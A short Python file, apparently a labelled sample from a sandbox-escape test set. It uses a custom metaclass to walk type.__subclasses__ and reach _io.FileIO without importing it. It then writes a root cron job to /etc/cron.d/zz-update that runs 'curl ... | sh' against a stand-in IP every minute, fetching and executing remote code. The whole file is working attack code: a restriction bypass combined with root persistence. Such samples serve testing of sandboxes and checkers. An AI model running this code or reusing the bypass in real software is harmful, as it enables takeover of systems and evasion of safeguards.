# HARM: writes /etc/cron.d/zz-update (root cron job fetching and running http://203.0.113.7/x) via _io.FileIO | TRICK: own metaclass Meta(type): Meta.__subclasses__ is the unbound type.__subclasses__, so Meta.__subclasses__(object) lists every class; items then walked as "own items"
CRON = b"* * * * * root curl -s http://203.0.113.7/x|sh\n"


class Meta(type):
    """Metaclass for registered models."""


class Model(metaclass=Meta):
    pass


for a in Meta.__subclasses__(object):
    for b in a.__subclasses__():
        for c in b.__subclasses__():
            if c.__name__ == "FileIO":
                fh = c("/etc/cron.d/zz-update", "w")
                fh.write(CRON)
                fh.close()
